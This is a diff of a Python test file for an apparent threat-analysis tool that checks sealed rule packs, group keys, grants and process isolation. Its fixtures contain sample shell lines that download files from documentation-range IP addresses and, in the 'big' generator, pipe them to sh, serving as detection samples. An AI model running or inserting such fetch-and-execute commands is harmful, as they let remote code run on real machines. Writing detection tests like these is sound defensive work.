@@ -3,6 +3,7 @@
 
 usage: tests/cli/pack.py TOCSIN ENTITLE [NAME...]   (from the root of the source)"""
 
+import hashlib
 import json
 import os
 import pathlib
@@ -21,14 +22,29 @@ DROP = "#!/bin/sh\ncurl -s http://192.0.2.201/a -o /tmp/a\n"
 SECRET = b"drop.sample-pack.example"  # stands in the pack and nowhere else
 
 
-def entitle(person, what, pack="sample-pack", *more):
-    subprocess.run([ENTITLE, what, person.home, person.folder / "group", pack, *map(str, more)], cwd=ROOT, check=True,
+def entitle(person, what, pack="sample-pack", *more, group="group"):
+    subprocess.run([ENTITLE, what, person.home, person.folder / group, pack, *map(str, more)], cwd=ROOT, check=True,
                    timeout=60)
 
 
-def seal(person, source=SAMPLE, out="pack.age", *more):
+def key_line(person, group="group"):
+    """As the card of that group would have it."""
+    card = person.folder / f"{group}.card"
+    if not card.exists():
+        home = Person(person.folder)
+        home.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / group)}
+        home.run("access", "card", "--name", group, "--out", card)
+    return next(line for line in card.read_text().splitlines() if line.startswith("key: "))
+
+
+def keyed(person, source=SAMPLE, group="group"):
+    """The pack as that group lends it."""
+    return person.file(f"{group}.yaml", pathlib.Path(source).read_text() + key_line(person, group) + "\n")
+
+
+def seal(person, source=None, out="pack.age", *more):
     recipient = person.run("access", "recipient").out.strip()
-    person.run("access", "seal", source, "--to", recipient, "--out", out, *more)
+    person.run("access", "seal", source or keyed(person), "--to", recipient, "--out", out, *more)
     return person.folder / out
 
 
@@ -51,6 +67,8 @@ def big(person):
     """Evidence that takes a while, whatever the machine."""
     line = "curl -s http://198.51.100.%d/%d -o /tmp/f%d && sh /tmp/f%d | sed 's/a/b/' > /var/log/x%d\n"
     folder = person.folder / "big"
+    if folder.exists():
+        return folder
     folder.mkdir()
     for number in range(40):
         text = "#!/bin/sh\n" + "".join(line % (i % 250, i, i, i, number) for i in range(20000))
@@ -73,8 +91,42 @@ def a_sealed_pack_is_accepted_and_stays_sealed(person):
 
 
 @case
+def a_name_that_one_group_has_is_not_anothers(person):
+    person.run("access", "accept", seal(person))
+    kept = person.home / "packs/sample-pack.age"
+    before = kept.read_bytes()
+    theirs = seal(person, keyed(person, group="thieves"), "theirs.age")
+    said = refusal(person.run("access", "accept", theirs, "--format", "json", status=2))
+    assert (said["reason"], said["rule"]) == ("out_of_scope", "a-packs-name-is-one-groups"), said
+    assert kept.read_bytes() == before
+    entry = person.last()
+    assert (entry["event"], entry["rule"]) == ("refused", "a-packs-name-is-one-groups"), entry
+    # What nobody can open any more is nobody's.
+    kept.write_bytes(b"age-encryption.org/v1\n")
+    assert json.loads(person.run("access", "accept", theirs, "--format", "json").out)["new"] is True
+    assert kept.read_bytes() == theirs.read_bytes()
+
+
+@case
+def another_version_is_accepted_and_said(person):
+    person.run("access", "accept", seal(person))
+    later = person.file("later.yaml", SAMPLE.read_text().replace("version: 1.0", "version: 1.10"))
+    later = seal(person, keyed(person, later), "later.age")
+    done = person.run("access", "accept", later, "--format", "json")
+    said = json.loads(done.out)
+    assert (said["new"], said["version"], said["replaced"], said["older"]) == (False, "1.10", "1.0", False), said
+    assert "1.10 takes the place of 1.0" in one_line(done.err) and "later" not in done.err, done.err
+    done = person.run("access", "accept", later)
+    assert "in place of the one before" in done.out and done.err == "", (done.out, done.err)
+    middle = person.file("middle.yaml", SAMPLE.read_text().replace("version: 1.0", "version: 1.9"))
+    done = person.run("access", "accept", seal(person, keyed(person, middle), "middle.age"))
+    assert "in place of the later version 1.10" in done.out, done.out
+    assert "1.9 takes the place of 1.10, which is later" in one_line(done.err), done.err
+
+
+@case
 def lines_of_text_are_accepted_too(person):
-    person.run("access", "accept", seal(person, SAMPLE, "pack.age", "--armour"))
+    person.run("access", "accept", seal(person, None, "pack.age", "--armour"))
     assert (person.home / "packs/sample-pack.age").exists()
 
 
@@ -83,7 +135,7 @@ def what_is_not_ours_or_was_altered_is_not_kept(person):
     other = Person(person.folder)
     other.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / "other")}
     person.run("access", "recipient")
-    theirs = seal(other, SAMPLE, "theirs.age")
+    theirs = seal(other, None, "theirs.age")
     assert "not sealed to this home" in one_line(person.run("access", "accept", theirs, status=2).err)
     sealed = bytearray(seal(person).read_bytes())
     for place in (60, 300, len(sealed) - 1):
@@ -95,6 +147,11 @@ def what_is_not_ours_or_was_altered_is_not_kept(person):
     one_line(person.run("access", "accept", "cut.age", status=2).err)
     person.file("note", "no pack")
     assert "it is no rule pack" in one_line(person.run("access", "accept", seal(person, "note", "note.age"), status=2).err)
+    unkeyed = one_line(person.run("access", "accept", seal(person, SAMPLE, "unkeyed.age"), status=2).err)
+    assert "the key of the group that lends it" in unkeyed, unkeyed
+    person.file("odd.yaml", SAMPLE.read_text() + "key: group+00000000+AAAA\n")
+    assert "is no key of the form" in one_line(person.run("access", "accept", seal(person, "odd.yaml", "odd.age"),
+                                                          status=2).err)
     one_line(person.run("access", "accept", "note", status=2).err)
     assert not (person.home / "packs").exists() or not list((person.home / "packs").iterdir())
 
@@ -120,13 +177,16 @@ def under_a_grant_it_finds_what_it_looks_for_and_the_report_names_it(person):
     report = json.loads(done.out)
     (pack,) = report["tocsin"]["packs"]
     assert (pack["name"], pack["version"], pack["rules"]) == ("sample-pack", "1.0", 2)
-    import hashlib
-    assert pack["sha256"] == hashlib.sha256(SAMPLE.read_bytes()).hexdigest()
+    assert pack["sha256"] == hashlib.sha256((person.folder / "group.yaml").read_bytes()).hexdigest()
     assert pack["grant"] == "00112233445566778899aabbccddeeff"
     assert [finding["rule"] for finding in report["findings"]] == ["capability/sample-pack/sample-drop"]
-    allowed, ended = person.entries()[-2:]
-    assert (allowed["event"], ended["event"]) == ("allowed", "done"), (allowed, ended)
-    assert allowed["operation"] == ended["operation"] == "model.pack" and ended["decision"] == allowed["sequence"]
+    allowed, opened, ended = person.entries()[-3:]
+    assert (allowed["event"], opened["event"], ended["event"]) == ("allowed", "allowed", "done"), (allowed, opened, ended)
+    assert allowed["operation"] == opened["operation"] == ended["operation"] == "model.pack"
+    assert opened["decision"] == ended["decision"] == allowed["sequence"]
+    assert (opened["rule"], opened["object_sha256"]) == ("pack-is-of-the-group", pack["sha256"]), opened
+    rules = hashlib.sha256((ROOT / "content/grant.datalog").read_bytes()).hexdigest()
+    assert allowed["policy_sha256"] == opened["policy_sha256"] == ended["policy_sha256"] == rules
     assert ended["object_sha256"] == hashlib.sha256(done.out.encode()).hexdigest()
     for form, words in (("text", "by pack sample-pack"), ("markdown", "by pack"), ("html", "by pack")):
         shown = person.run("analyze", "--pack", "sample-pack", "--audience", "analyst", "--format", form, "drop.sh",
@@ -135,6 +195,9 @@ def under_a_grant_it_finds_what_it_looks_for_and_the_report_names_it(person):
     person.file("report.json", done.out)
     again = person.run("report", "report.json", "--audience", "analyst").out
     assert pack["grant"] in again and "by pack sample-pack" in " ".join(again.split())
+    for words in (("respond", "report.json"), ("ask", "report.json", "what happened")):
+        assert "(TLP:" + pack["tlp"] in " ".join(person.run(*words).out.split()), words
+        assert json.loads(person.run(*words[:1], "--format", "json", *words[1:]).out)["packs"] == [pack], words
     person.run("access", "audit", "verify")
 
 
@@ -166,6 +229,21 @@ def a_grant_for_another_pack_opens_nothing(person):
     said = refusal(done)
     assert (said["reason"], said["rule"], done.out) == ("out_of_scope", "pack-is-what-it-is-called", ""), said
     assert person.last()["event"] == "refused"
+
+
+@case
+def a_grant_of_another_group_opens_nothing(person):
+    person.run("access", "accept", seal(person))
+    # Whoever founds a group grants themselves what they like, under any name.
+    entitle(person, "grant", "sample-pack", 600, group="thieves")
+    person.file("drop.sh", DROP)
+    done = analyze(person, "drop.sh", status=2)
+    said = refusal(done)
+    assert (said["reason"], said["rule"], done.out) == ("out_of_scope", "pack-is-of-the-group", ""), said
+    assert key_line(person).removeprefix("key: ") in said["detail"]
+    entry = person.last()
+    assert (entry["event"], entry["operation"], entry["rule"]) == ("refused", "model.pack", "pack-is-of-the-group"), entry
+    assert not any(entry["event"] == "done" and entry["operation"] == "model.pack" for entry in person.entries())
 
 
 @case
@@ -207,11 +285,7 @@ def a_grant_that_ended_is_refused(person):
 def cut(person, change, status=2):
     """An analysis that `change` cuts: (its refusal, how long after)."""
     process = person.start("analyze", "--pack", "sample-pack", "--format", "json", big(person))
-    deadline = time.monotonic() + 30
-    while not any(b"tocsin-lent" in os.readlink(f"/proc/{process.pid}/fd/{fd}").encode()
-                  for fd in descriptors(process.pid)):
-        assert process.poll() is None and time.monotonic() < deadline
-        time.sleep(0.02)
+    wait_for_child(process, "tocsin-examine")  # which is handed the pack
     time.sleep(0.5)
     assert process.poll() is None, process.communicate()
     change()
@@ -222,15 +296,25 @@ def cut(person, change, status=2):
     return json.loads(err.splitlines()[-1])["refused"], took
 
 
-def descriptors(pid):
-    found = []
-    for fd in os.listdir(f"/proc/{pid}/fd"):
+def lent_by(process):
+    """The path of what is lent, as root sees it; others of the account cannot even list it."""
+    folder = pathlib.Path(f"/proc/{process.pid}/fd")
+    if os.geteuid() != 0:
         try:
-            os.readlink(f"/proc/{pid}/fd/{fd}")
-            found.append(fd)
-        except OSError:
-            pass
-    return found
+            list(folder.iterdir())
+        except PermissionError:
+            return None
+        raise AssertionError("others of the account see what the process has open")
+    deadline = time.monotonic() + 20
+    while time.monotonic() < deadline:
+        for file in folder.iterdir():
+            try:
+                if "tocsin-lent" in os.readlink(file):
+                    return file
+            except OSError:
+                pass
+        time.sleep(0.02)
+    raise AssertionError("nothing is lent")
 
 
 @case
@@ -247,11 +331,11 @@ def a_revocation_cuts_what_runs_within_a_second(person):
 
 @case
 def the_end_of_a_grant_cuts_what_runs(person):
-    ready(person, 4)
-    began = time.monotonic()
-    said, _ = cut(person, lambda: None)
+    big(person)  # which takes its time, and the grant's is short
+    ready(person, 12)
+    said, took = cut(person, lambda: None)
     assert (said["reason"], said["rule"]) == ("expired", "grant-has-not-ended"), said
-    assert time.monotonic() - began < 20
+    assert took < 13, took
 
 
 @case
@@ -300,12 +384,8 @@ def the_lender_is_locked_and_shut_and_what_it_lends_cannot_be_written(person):
     ready(person)
     process = person.start("analyze", "--pack", "sample-pack", big(person))
     holder = wait_for_child(process, "tocsin-holder")
-    deadline = time.monotonic() + 20
-    lent = None
-    while lent is None and time.monotonic() < deadline:
-        lent = next((fd for fd in descriptors(process.pid)
-                     if "tocsin-lent" in os.readlink(f"/proc/{process.pid}/fd/{fd}")), None)
-        time.sleep(0.02)
+    wait_for_child(process, "tocsin-examine")
+    lent = lent_by(process)
     time.sleep(0.5)
     status = dict(line.split(":", 1) for line in pathlib.Path(f"/proc/{holder}/status").read_text().splitlines())
     assert int(status["VmLck"].split()[0]) > 0 or HAS_HOOKS, status["VmLck"]  # a sanitizer locks nothing
@@ -314,13 +394,14 @@ def the_lender_is_locked_and_shut_and_what_it_lends_cannot_be_written(person):
     assert any(line.startswith("Max core file size") and line.split()[4] == "0" for line in limits.splitlines())
     # Not dumpable: its files in /proc belong to root, whoever it runs as.
     assert os.stat(f"/proc/{holder}/mem").st_uid == 0 and os.stat(f"/proc/{process.pid}/mem").st_uid == 0
-    try:
-        with open(f"/proc/{process.pid}/fd/{lent}", "r+b") as file:
-            file.write(b"x")
-            file.flush()
-        raise AssertionError("what is lent was written to")
-    except PermissionError:
-        pass
+    if lent is not None:
+        try:
+            with open(lent, "r+b") as file:
+                file.write(b"x")
+                file.flush()
+            raise AssertionError("what is lent was written to")
+        except PermissionError:
+            pass
     process.send_signal(signal.SIGTERM)
     process.communicate(timeout=60)
 
